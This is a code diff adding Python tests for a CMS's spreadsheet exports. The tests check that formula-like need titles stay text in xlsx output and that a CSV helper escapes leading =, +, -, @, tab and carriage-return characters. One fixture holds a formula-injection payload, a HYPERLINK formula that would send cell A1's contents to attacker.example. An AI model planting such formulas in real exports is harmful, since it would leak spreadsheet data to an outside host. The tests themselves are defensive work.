@@ -299,3 +299,40 @@ def test_the_admin_download_counts_only_what_the_user_may_see(client, jamaica_np
 def test_an_unknown_admin_format_is_not_found(admin_client):
     response = admin_client.get(reverse("assistance_coverage_export"), {"format": "docx"})
     assert response.status_code == 404
+
+
+# --- Formula injection -------------------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("https://attacker.example/steal?d="&A1,"Open the annex")'
+
+
+def test_a_formula_in_a_need_title_stays_text_in_the_workbook(admin_client):
+    make_need(country="KE", themes=("tracing",), title=FORMULA_TITLE, amount=12_345)
+    book = workbook(admin_client.get(URL, {"format": "xlsx", "locale": "en"}))
+    cells = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
+    ]
+    assert cells, "the need is listed in the workbook"
+    for cell in cells:
+        assert cell.data_type == "s"
+        assert cell.value == FORMULA_TITLE
+
+
+def test_formula_like_text_is_escaped_in_csv_and_numbers_are_not():
+    from cms.core.spreadsheets import csv_row
+
+    assert csv_row(["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", -5, "Kenya", None]) == [
+        "'=1+1",
+        "'+SUM(A1)",
+        "'-2+3",
+        "'@cmd",
+        "'\tx",
+        "'\rx",
+        -5,
+        "Kenya",
+        "",
+    ]
